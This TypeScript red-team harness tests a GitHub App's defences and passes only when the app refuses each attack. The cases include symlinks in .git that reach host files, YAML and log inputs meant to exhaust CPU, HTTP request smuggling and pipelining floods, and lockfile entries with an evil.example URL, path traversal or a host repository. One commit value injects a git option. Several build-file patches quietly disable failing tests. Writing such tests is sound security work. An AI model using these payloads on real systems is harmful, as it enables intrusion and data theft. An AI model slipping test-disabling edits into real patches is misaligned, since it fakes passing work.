/**
 * Host-side steps of the twenty-ninth red team's cases, run in a process of their own
 * (`tsx redteam29-step.ts <dir> <id>…`) so a case that holds the host can be killed and measured.
 * Waves 1–28 went to installs, lockfiles, git configuration keys and the git directory's top-level files, parsers,
 * patches, model answers, format characters, caches, clocks, webhook bytes and signatures, look-alike names, the
 * App's final gate, the job database, runner shadows, wrappers, conventions, import roots, build logic, budgets,
 * PATH lookups and promisor remotes. This one goes to classes none of them tried: links deeper in `.git` than the
 * git-directory check looks (reflogs, ref subdirectories, object fan-out directories, pack files, lock files),
 * YAML streams and compact nesting in the config, build files of ecosystems the gate does not model and test-runner
 * configuration embedded in another tool's file, HTTP framing below the webhook reader (chunk extensions,
 * Content-Length with chunked, pipelining), cross-repository references in what the App writes, lockfile URL parser
 * differentials, package keys and pnpm resolutions naming host paths, line terminators other than LF in logs and
 * reports, and an event field given to git.
 * One JSON line per case: `{ id, cpuMs, outcome, contained }`.
 */
import { execFileSync } from "node:child_process";
import {
  existsSync,
  lstatSync,
  mkdirSync,
  readdirSync,
  readFileSync,
  rmSync,
  symlinkSync,
  writeFileSync,
} from "node:fs";
import net from "node:net";
import path from "node:path";
import { short } from "./patch-step.ts";
import { appRun, type Outcome, ok, runStepCases, writeTree, caseGit } from "./wave-step.ts";

// Each group of cases runs in a process of its own: a module is loaded by the cases that use it (the wave's test is
// bounded by CPU, and loading the App, the gate and the report reader in every group cost most of it).
const load = {
  config: () => import("../../../src/config/repo-config.ts"),
  branch: () => import("../../../src/git/branch-commit.ts"),
  git: () => import("../../../src/git/run-git.ts"),
  lock: () => import("../../../src/install/lockfile-policy.ts"),
  pnpm: () => import("../../../src/install/pnpm-lockfile.ts"),
  runner: () => import("../../../src/jobs/default-runner.ts"),
  logs: () => import("../../../src/logs/index.ts"),
  policy: () => import("../../../src/policy/index.ts"),
  report: () => import("../../../src/repro/context.ts"),
  app: () => import("../../e2e/support/app-harness.ts"),
  github: () => import("../../e2e/support/fake-github.ts"),
  rendered: () => import("./rendered-markdown.ts"),
};

const [root, ...ids] = process.argv.slice(2) as [string, ...string[]];
let dir = root;
const MARKER = process.env.RETRACE_RT29_MARKER ?? "/var/tmp/retrace-rt29-marker";
const HOST_SECRET = "RT29-HOST-REPOSITORY-SECRET-9d2e";
const MiB = 1024 * 1024;

// ---- Host git: links deeper in .git than checkGitDir looks.

const git = (cwd: string, ...args: string[]): string => caseGit(dir, cwd, ...args);

/** A repository at `at` with two commits (`files`, then `second`); returns the first commit's sha. */
function twoCommits(at: string, files: Record<string, string>, second: Record<string, string>): string {
  writeTree(at, files);
  git(at, "init", "-q", "-b", "main");
  git(at, "add", "-A");
  git(at, "commit", "-q", "-m", "base");
  const first = git(at, "rev-parse", "HEAD").trim();
  writeTree(at, second);
  git(at, "add", "-A");
  git(at, "commit", "-q", "-m", "second");
  return first;
}

/** `p` replaced by a symbolic link to `target`. */
function linkAt(p: string, target: string): void {
  rmSync(p, { recursive: true, force: true });
  mkdirSync(path.dirname(p), { recursive: true });
  symlinkSync(target, p);
}

/** A host directory outside the checkout (the victim): what a case finds in it afterwards. */
function victimDir(): string {
  const v = path.join(dir, "host-victim");
  mkdirSync(v, { recursive: true });
  return v;
}

function listAll(d: string): string[] {
  const out: string[] = [];
  for (const e of readdirSync(d, { withFileTypes: true })) {
    const p = path.join(d, e.name);
    out.push(path.relative(dir, p));
    if (e.isDirectory()) out.push(...listAll(p));
  }
  return out;
}

const markerThere = () => {
  try {
    lstatSync(MARKER);
    return true;
  } catch {
    return false;
  }
};

async function tryIt(run: () => Promise<unknown>): Promise<string> {
  try {
    const r = await run();
    return `ran: ${short(JSON.stringify(r ?? null), 120)}`;
  } catch (e) {
    return `refused/failed: ${short((e as Error).message, 200)}`;
  }
}

const BOT = { name: "Retrace", email: "bot@example.com" };

/** The fix branch's commit on a checkout whose `.git` has been changed by `arrange`; contained when `victim` stays empty. */
async function branchCommitInto(
  arrange: (gitDir: string, victim: string) => void,
  branch = "retrace/fix-29",
) {
  const repo = path.join(dir, "checkout");
  twoCommits(repo, { "a.txt": "1\n" }, { "a.txt": "2\n" });
  const victim = victimDir();
  arrange(path.join(repo, ".git"), victim);
  const how = await tryIt(async () =>
    (await load.branch()).createBranchWithCommit(repo, {
      branch,
      message: "fix",
      files: { "a.txt": `fixed ${Date.now()}\n` },
      author: BOT,
    }),
  );
  const written = listAll(victim);
  return ok(
    `${how}; host directory ${written.length ? `now holds ${short(written.join(", "), 160)}` : "untouched"}`,
    written.length === 0,
  );
}

/**
 * A host repository (the victim, its second commit holding a secret) and a checkout whose `.git` is a copy of it with
 * the objects replaced by links (`link` decides which); `diff HEAD~1 HEAD` through safeGit.
 */
async function borrowedObjects(
  link: (hostObjects: string, checkoutObjects: string) => void,
): Promise<Outcome> {
  const host = path.join(dir, "host-vault");
  twoCommits(host, { "notes.txt": "public\n" }, { "notes.txt": `${HOST_SECRET}\n` });
  const checkout = path.join(dir, "checkout");
  mkdirSync(checkout, { recursive: true });
  execFileSync("cp", ["-a", path.join(host, ".git"), path.join(checkout, ".git")]);
  link(path.join(host, ".git", "objects"), path.join(checkout, ".git", "objects"));
  let out = "";
  const how = await tryIt(async () => {
    // The failing commit's diff as local-fix asks it (src/jobs/local-fix.ts).
    out = await (await load.git())
      .safeGit(checkout)
      .raw(["diff", "--no-color", "--no-ext-diff", "--no-textconv", "HEAD~1", "HEAD"]);
    return out.length;
  });
  const leaked = out.includes(HOST_SECRET) || how.includes(HOST_SECRET);
  return ok(
    `${how}; ${leaked ? "the host repository's secret is in the output" : "no host content"}`,
    !leaked,
  );
}

// ---- The policy gate.

/** The patch taking `files` to `after` (git's own diff), and the gate's answer; contained when it refuses. */
async function gate(files: Record<string, string>, after: Record<string, string | null>): Promise<Outcome> {
  const at = path.join(dir, "gate-repo");
  writeTree(at, files);
  git(at, "init", "-q", "-b", "main");
  git(at, "add", "-A");
  git(at, "commit", "-q", "-m", "base");
  for (const [f, t] of Object.entries(after)) {
    if (t === null) rmSync(path.join(at, f));
    else writeTree(at, { [f]: t });
  }
  git(at, "add", "-A");
  const patch = git(at, "diff", "--cached");
  const tree = { ...files };
  const g = (await load.policy()).evaluatePatch(
    patch,
    {},
    { sourceFiles: tree, treeFiles: Object.keys(tree) },
  );
  return ok(
    g.allowed
      ? `gate allowed (${patch.length} bytes of patch)`
      : `gate refused: ${short(g.violations.map((v) => `${v.rule}: ${v.message}`).join("; "), 200)}`,
    !g.allowed,
  );
}

// ---- The App's webhook endpoint, below fetch: raw bytes on a socket.

async function rawApp(
  send: (host: string, port: number) => Promise<string>,
): Promise<{ reply: string; jobs: number; cpuMs: number }> {
  const github = await (await load.github()).startFakeGitHub();
  const runner = {
    run: async () => {
      throw new Error("no job runs in this case");
    },
  };
  const app = await (await load.app()).startApp(github, runner as never, {
    dbPath: path.join(dir, "jobs.sqlite"),
  });
  try {
    const u = new URL(app.url);
    const t = process.cpuUsage();
    const reply = await send(u.hostname, Number(u.port));
    await app.service.idle();
    const used = process.cpuUsage(t);
    return {
      reply,
      jobs: app.store.all().filter((j) => j.state !== "skipped").length,
      cpuMs: Math.round((used.user + used.system) / 1000),
    };
  } finally {
    await app.close();
    await github.close();
  }
}

/** Writes `bytes` on one connection and reads what comes back until the server closes it or `waitMs` passes. */
function socketExchange(host: string, port: number, bytes: Buffer, waitMs = 20_000): Promise<string> {
  return new Promise((resolve) => {
    const s = net.connect(port, host);
    const chunks: Buffer[] = [];
    const done = () => {
      clearTimeout(timer);
      s.destroy();
      resolve(Buffer.concat(chunks).toString("latin1"));
    };
    const timer = setTimeout(done, waitMs);
    s.on("data", (c) => chunks.push(c));
    s.on("close", done);
    s.on("error", done);
    s.on("connect", () => {
      s.write(bytes);
    });
  });
}

const head = (extra: string) =>
  `POST /api/github/webhooks HTTP/1.1\r\nHost: localhost\r\nContent-Type: application/json\r\nX-GitHub-Event: issue_comment\r\nX-GitHub-Delivery: rt29-${Math.random()}\r\n${extra}\r\n`;

function statuses(reply: string): string {
  const counts: Record<string, number> = {};
  for (const m of reply.matchAll(/HTTP\/1\.1 (\d{3})/g)) counts[m[1]!] = (counts[m[1]!] ?? 0) + 1;
  return JSON.stringify(counts);
}

// ---- Lockfiles.

const NPMJS = "https://registry.npmjs.org/";
const INTEGRITY =
  "sha512-AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA==";

async function npmLock(packages: Record<string, unknown>): Promise<Outcome> {
  const lock = {
    name: "victim",
    version: "1.0.0",
    lockfileVersion: 3,
    requires: true,
    packages: { "": { name: "victim", version: "1.0.0", dependencies: { leaf: "1.0.0" } }, ...packages },
  };
  const { checkNpmLockfile, REGISTRY_ONLY } = await load.lock();
  return refusedOrNot(checkNpmLockfile(lock, NPMJS, REGISTRY_ONLY));
}

function refusedOrNot(problems: { entry: string; reason: string; field?: string | null }[]): Outcome {
  return ok(
    problems.length === 0
      ? "allowed"
      : `refused: ${short(problems.map((p) => `${p.entry}: ${p.reason} (${p.field ?? "no field"})`).join("; "), 200)}`,
    problems.length > 0,
  );
}

async function pnpmLock(resolution: Record<string, unknown>): Promise<Outcome> {
  const lock = {
    lockfileVersion: "9.0",
    settings: { autoInstallPeers: true, excludeLinksFromLockfile: false },
    importers: { ".": { dependencies: { leaf: { specifier: "1.0.0", version: "1.0.0" } } } },
    packages: { "leaf@1.0.0": { resolution } },
    snapshots: { "leaf@1.0.0": {} },
  };
  const { REGISTRY_ONLY } = await load.lock();
  return refusedOrNot((await load.pnpm()).checkPnpmLockfile(lock, NPMJS, REGISTRY_ONLY));
}

// ---- Text the host parses.

function cpuOf<T>(run: () => T): { value: T | Error; ms: number } {
  const t = process.cpuUsage();
  let value: T | Error;
  try {
    value = run();
  } catch (e) {
    value = e as Error;
  }
  const used = process.cpuUsage(t);
  return { value, ms: Math.round((used.user + used.system) / 1000) };
}

async function comment(body: string, id: number, title: string) {
  const p = (await load.app()).example("issue_comment", "created");
  p.comment.id = id;
  p.comment.body = body;
  p.comment.user = { login: "Codertocat", type: "User" };
  p.sender = { login: "Codertocat", type: "User" };
  p.issue.title = title;
  return p;
}

const CROSS_TITLE =
  "crash like victim-org/victim-repo#1 (https://github.com/victim-org/victim-repo/issues/2) and GH-3";

const GRADLEISH_TEST = "tests/test_parser.py";
const PY_FILES = {
  "src/app/__init__.py": "def parse(x):\n    return x\n",
  [GRADLEISH_TEST]: "from app import parse\n\ndef test_parse():\n    assert parse(1) == 2\n",
};

const cases: Record<string, () => Promise<Outcome> | Outcome> = {
  "git-logs-head-link-to-host-file-on-checkout": async () => {
    const repo = path.join(dir, "checkout");
    const first = twoCommits(repo, { "a.txt": "1\n" }, { "a.txt": "2\n" });
    linkAt(path.join(repo, ".git", "logs", "HEAD"), MARKER);
    const how = await tryIt(async () => (await load.runner()).ensureCheckoutAt(repo, first));
    const there = markerThere() && existsSync(MARKER);
    return ok(
      `${how}; marker ${there ? `WRITTEN through .git/logs/HEAD: ${short(readFileSync(MARKER, "utf8"), 80)}` : "never written"}`,
      !there,
    );
  },
  "git-logs-refs-subdir-link-to-host-dir-on-branch-commit": () =>
    branchCommitInto((g, victim) => linkAt(path.join(g, "logs", "refs"), victim)),
  "git-refs-heads-subdir-link-to-host-dir-on-branch-commit": () =>
    branchCommitInto((g, victim) => linkAt(path.join(g, "refs", "heads", "retrace"), victim)),
  "git-objects-fanout-links-to-host-dir-on-branch-commit": () =>
    branchCommitInto((g, victim) => {
      for (let i = 0; i < 256; i++) {
        const fan = path.join(g, "objects", i.toString(16).padStart(2, "0"));
        if (!existsSync(fan)) symlinkSync(victim, fan);
      }
    }),
  "git-objects-fanout-links-to-host-repository-on-diff": () =>
    borrowedObjects((hostObjects, objects) => {
      for (const fan of readdirSync(hostObjects).filter((n) => /^[0-9a-f]{2}$/.test(n)))
        linkAt(path.join(objects, fan), path.join(hostObjects, fan));
    }),
  "git-pack-file-links-to-host-repository-pack-on-diff": () => {
    const hostGit = path.join(dir, "host-vault");
    return borrowedObjects((hostObjects, objects) => {
      // The host repository packs its objects; the checkout holds none of its own, only links to that pack.
      git(hostGit, "repack", "-a", "-d", "-q");
      git(hostGit, "prune-packed");
      for (const n of readdirSync(objects))
        if (/^[0-9a-f]{2}$/.test(n)) rmSync(path.join(objects, n), { recursive: true });
      rmSync(path.join(objects, "pack"), { recursive: true, force: true });
      mkdirSync(path.join(objects, "pack"));
      for (const p of readdirSync(path.join(hostObjects, "pack")))
        symlinkSync(path.join(hostObjects, "pack", p), path.join(objects, "pack", p));
    });
  },
  "git-loose-ref-link-to-host-file-in-error": async () => {
    const repo = path.join(dir, "checkout");
    twoCommits(repo, { "a.txt": "1\n" }, { "a.txt": "2\n" });
    const secret = path.join(dir, "host-secret.txt");
    writeFileSync(secret, `${HOST_SECRET}\n`);
    git(repo, "pack-refs", "--all", "--prune");
    linkAt(path.join(repo, ".git", "refs", "heads", "main"), secret);
    const g = (await load.git()).safeGit(repo);
    const seen: string[] = [];
    for (const args of [
      ["rev-parse", "HEAD"],
      ["log", "-1", "--format=%H"],
      ["for-each-ref"],
      ["status", "--short"],
    ])
      seen.push(await tryIt(() => g.raw(args)));
    const leaked = seen.some((s) => s.includes(HOST_SECRET));
    return ok(`${short(seen.join(" | "), 300)}; ${leaked ? "SECRET in the output" : "no secret"}`, !leaked);
  },
  "git-head-lock-precreated-link-on-checkout": async () => {
    const repo = path.join(dir, "checkout");
    const first = twoCommits(repo, { "a.txt": "1\n" }, { "a.txt": "2\n" });
    linkAt(path.join(repo, ".git", "HEAD.lock"), MARKER);
    const how = await tryIt(async () => (await load.runner()).ensureCheckoutAt(repo, first));
    const there = existsSync(MARKER);
    return ok(`${how}; marker ${there ? "WRITTEN" : "never written"}`, !there);
  },

  "config-yaml-compact-block-sequences-deep": async () => {
    const { parseRepoConfig } = await load.config();
    const yaml = `${"- ".repeat(32_000)}x\n`;
    const r = cpuOf(() => parseRepoConfig(yaml));
    const what = r.value instanceof Error ? `refused: ${short(r.value.message, 140)}` : "parsed";
    return ok(`${yaml.length} chars: ${what} in ${r.ms} ms CPU`, r.ms < 3_000);
  },
  "config-yaml-multi-document-stream": async () => {
    const { parseRepoConfig } = await load.config();
    const yaml = "---\nfix: {}\n".repeat(5_000);
    const r = cpuOf(() => parseRepoConfig(yaml));
    const what = r.value instanceof Error ? `refused: ${short(r.value.message, 140)}` : "parsed";
    return ok(`${yaml.length} chars: ${what} in ${r.ms} ms CPU`, r.ms < 3_000);
  },

  "patch-pyproject-tool-tox-legacy-ini-commands": () =>
    gate(
      { ...PY_FILES, "pyproject.toml": '[project]\nname = "app"\nversion = "1.0"\n' },
      {
        "pyproject.toml":
          '[project]\nname = "app"\nversion = "1.0"\n\n[tool.tox]\nlegacy_tox_ini = """\n[tox]\nenvlist = py\n\n[testenv]\ncommands = python -c pass\n"""\n',
      },
    ),
  "patch-setup-cfg-tox-testenv-commands": () =>
    gate(
      { ...PY_FILES, "setup.cfg": "[metadata]\nname = app\n\n[options]\npackages = find:\n" },
      {
        "setup.cfg":
          "[metadata]\nname = app\n\n[options]\npackages = find:\n\n[tox:tox]\nenvlist = py\n\n[testenv]\ncommands = python -c pass\n",
      },
    ),
  "patch-build-sbt-test-filter-false": () =>
    gate(
      {
        "build.sbt":
          'name := "app"\nscalaVersion := "3.3.1"\nlibraryDependencies += "org.scalameta" %% "munit" % "1.0.0" % Test\n',
        "src/main/scala/App.scala": "object App { def parse(x: Int) = x }\n",
        "src/test/scala/AppSuite.scala":
          'class AppSuite extends munit.FunSuite { test("p") { assertEquals(App.parse(1), 2) } }\n',
      },
      {
        "build.sbt":
          'name := "app"\nscalaVersion := "3.3.1"\nlibraryDependencies += "org.scalameta" %% "munit" % "1.0.0" % Test\nTest / testOptions += Tests.Filter(_ => false)\n',
      },
    ),
  "patch-mix-exs-test-paths-empty": () =>
    gate(
      {
        "mix.exs":
          'defmodule App.MixProject do\n  use Mix.Project\n\n  def project do\n    [app: :app, version: "0.1.0", deps: []]\n  end\nend\n',
        "lib/app.ex": "defmodule App do\n  def parse(x), do: x\nend\n",
        "test/app_test.exs":
          'defmodule AppTest do\n  use ExUnit.Case\n  test "p", do: assert App.parse(1) == 2\nend\n',
      },
      {
        "mix.exs":
          'defmodule App.MixProject do\n  use Mix.Project\n\n  def project do\n    [app: :app, version: "0.1.0", deps: [], test_paths: []]\n  end\nend\n',
      },
    ),
  "patch-cmakelists-add-test-removed": () =>
    gate(
      {
        "CMakeLists.txt":
          "cmake_minimum_required(VERSION 3.16)\nproject(app CXX)\nenable_testing()\nadd_library(app src/app.cpp)\nadd_executable(parser_test tests/parser_test.cpp)\ntarget_link_libraries(parser_test app)\nadd_test(NAME parser_test COMMAND parser_test)\n",
        "src/app.cpp": "int parse(int x) { return x; }\n",
        "tests/parser_test.cpp": "int parse(int);\nint main() { return parse(1) == 2 ? 0 : 1; }\n",
      },
      {
        "CMakeLists.txt":
          "cmake_minimum_required(VERSION 3.16)\nproject(app CXX)\nenable_testing()\nadd_library(app src/app.cpp)\nadd_executable(parser_test tests/parser_test.cpp)\ntarget_link_libraries(parser_test app)\n",
      },
    ),
  "patch-package-swift-test-target-exclude": () =>
    gate(
      {
        "Package.swift":
          '// swift-tools-version:5.9\nimport PackageDescription\n\nlet package = Package(\n    name: "App",\n    targets: [\n        .target(name: "App"),\n        .testTarget(name: "AppTests", dependencies: ["App"]),\n    ]\n)\n',
        "Sources/App/App.swift": "public func parse(_ x: Int) -> Int { x }\n",
        "Tests/AppTests/FailingTests.swift":
          "import XCTest\n@testable import App\nfinal class FailingTests: XCTestCase { func testParse() { XCTAssertEqual(parse(1), 2) } }\n",
      },
      {
        "Package.swift":
          '// swift-tools-version:5.9\nimport PackageDescription\n\nlet package = Package(\n    name: "App",\n    targets: [\n        .target(name: "App"),\n        .testTarget(name: "AppTests", dependencies: ["App"], exclude: ["FailingTests.swift"]),\n    ]\n)\n',
      },
    ),
  "patch-new-dart-test-yaml-skip-tags": () =>
    gate(
      {
        "pubspec.yaml":
          "name: app\nenvironment:\n  sdk: '>=3.0.0 <4.0.0'\ndev_dependencies:\n  test: ^1.24.0\n",
        "lib/app.dart": "int parse(int x) => x;\n",
        "test/app_test.dart":
          "import 'package:test/test.dart';\nimport 'package:app/app.dart';\n@Tags(['failing'])\nvoid main() { test('p', () => expect(parse(1), 2)); }\n",
      },
      { "dart_test.yaml": "tags:\n  failing:\n    skip: true\n" },
    ),

  "webhook-chunk-extension-flood": async () => {
    const r = await rawApp((h, p) =>
      socketExchange(
        h,
        p,
        Buffer.from(
          `${head("Transfer-Encoding: chunked\r\n")}1;a=${"A".repeat(MiB)}\r\n{\r\n0\r\n\r\n`,
          "latin1",
        ),
      ),
    );
    const st = statuses(r.reply);
    return ok(
      `answers ${st}, ${r.jobs} job(s), App CPU ${r.cpuMs} ms`,
      r.jobs === 0 && !/"2\d\d"/.test(st) && r.cpuMs < 5_000,
    );
  },
  "webhook-content-length-and-chunked-together": async () => {
    const body = '{"action":"created"}';
    const r = await rawApp((h, p) =>
      socketExchange(
        h,
        p,
        Buffer.from(
          `${head(`Content-Length: 4\r\nTransfer-Encoding: chunked\r\n`)}${body.length.toString(16)}\r\n${body}\r\n0\r\n\r\n`,
          "latin1",
        ),
      ),
    );
    const st = statuses(r.reply);
    return ok(`answers ${st}, ${r.jobs} job(s)`, r.jobs === 0 && !/"2\d\d"/.test(st));
  },
  "webhook-10k-pipelined-unsigned-requests-one-connection": async () => {
    const body = JSON.stringify({ action: "created", comment: { body: "/repro" } });
    const one = `${head(`Content-Length: ${body.length}\r\n`)}${body}`;
    const r = await rawApp((h, p) => socketExchange(h, p, Buffer.from(one.repeat(10_000), "latin1"), 60_000));
    const st = statuses(r.reply);
    return ok(
      `answers ${st} for 10,000 requests on one connection, ${r.jobs} job(s), App CPU ${r.cpuMs} ms`,
      r.jobs === 0 && !/"2\d\d"/.test(st) && r.cpuMs < 6_000,
    );
  },
  "app-issue-title-cross-repository-reference": async () => {
    const r = await appRun(
      dir,
      async (app) => [
        await (await load.app()).postWebhook(
          app,
          "issue_comment",
          await comment("/repro", 2901, CROSS_TITLE),
        ),
      ],
      CROSS_TITLE,
    );
    const outside = (await load.rendered()).outsideCode(r.written);
    const refs = [
      /victim-org\/victim-repo#1\b/.test(outside) && "owner/repo#1",
      /github\.com\/victim-org\/victim-repo\/issues\/2/.test(outside) && "issue URL",
      /\bGH-3\b/.test(outside) && "GH-3",
    ].filter(Boolean);
    return ok(
      refs.length
        ? `written outside code: ${refs.join(", ")}: ${JSON.stringify(short(r.written, 200))}`
        : `no reference outside code (${r.written.length} chars written, ${r.statuses})`,
      refs.length === 0,
    );
  },

  "lock-npm-resolved-backslash-before-at-host": () =>
    npmLock({
      "node_modules/leaf": {
        version: "1.0.0",
        resolved: "https://registry.npmjs.org\\@evil.example/leaf/-/leaf-1.0.0.tgz",
        integrity: INTEGRITY,
      },
    }),
  "lock-npm-packages-key-dotdot-escape": () =>
    npmLock({
      "node_modules/leaf": {
        version: "1.0.0",
        resolved: `${NPMJS}leaf/-/leaf-1.0.0.tgz`,
        integrity: INTEGRITY,
      },
      "node_modules/leaf/../../../../../../tmp/rt29-planted": {
        version: "1.0.0",
        resolved: `${NPMJS}leaf/-/leaf-1.0.0.tgz`,
        integrity: INTEGRITY,
      },
    }),
  "lock-pnpm-directory-resolution-outside": () =>
    pnpmLock({ type: "directory", directory: "../../../../etc" }),
  "lock-pnpm-git-resolution-host-repository": () =>
    pnpmLock({
      type: "git",
      repo: "file:///srv/host-repo",
      commit: "0123456789abcdef0123456789abcdef01234567",
    }),

  "log-unicode-line-separators-one-line": async () => {
    const { parseLog, wholeLog } = await load.logs();
    const lines: string[] = [
      "============================= test session starts ==============================",
    ];
    // The case's own builder counts as it goes (joining every round made the first try's builder quadratic).
    let size = lines[0]!.length;
    for (let i = 0; size < 4 * MiB; i++) {
      const line = `FAILED tests/test_a.py::test_${i} - AssertionError: assert 1 == 2\u0085x\u000bE   y\u000c`;
      lines.push(line);
      size += line.length + 1;
    }
    const text = `${lines.join("\u2028")}\n`;
    const r = cpuOf(() => wholeLog(parseLog(text), "the log"));
    const what =
      r.value instanceof Error
        ? `refused: ${short(r.value.message, 140)}`
        : `read: ${r.value.failures.length} failures`;
    return ok(`${Math.round(text.length / 1024)} KiB: ${what} in ${r.ms} ms CPU`, r.ms < 6_000);
  },
  "report-unicode-line-separators-65k": async () => {
    const { readReport } = await load.report();
    const parts = [
      "# crash",
      "```python",
      ">>> import app",
      "Traceback (most recent call last):",
      '  File "x.py", line 1, in <module>',
      "ValueError: boom",
      "```",
      "npm i left-pad@1.1.3",
      "> quoted",
      "- item",
    ];
    let body = "";
    for (let i = 0; body.length < 65_000; i++)
      body += `${parts[i % parts.length]}${["\u2028", "\u2029", "\u0085", "\r"][i % 4]}`;
    body = body.slice(0, 65_536);
    const r = cpuOf(() => readReport(body));
    const what =
      r.value instanceof Error
        ? `threw: ${short(r.value.message, 120)}`
        : r.value.unreadable
          ? `not read (${short(r.value.unreadable, 100)})`
          : `${r.value.report.blocks.length} block(s)`;
    return ok(`${body.length} chars: ${what} in ${r.ms} ms CPU`, !(r.value instanceof Error) && r.ms < 3_000);
  },

  "action-workflow-run-head-sha-option": async () => {
    const repo = path.join(dir, "checkout");
    twoCommits(repo, { "a.txt": "1\n" }, { "a.txt": "2\n" });
    const how = await tryIt(async () => (await load.runner()).ensureCheckoutAt(repo, `--output=${MARKER}`));
    const there = existsSync(MARKER);
    return ok(`${how}; marker ${there ? "WRITTEN" : "never written"}`, !there && how.startsWith("refused"));
  },
};

runStepCases(cases, root, ids, (d) => {
  dir = d;
  process.chdir(d);
}).then(() => process.exit(0));
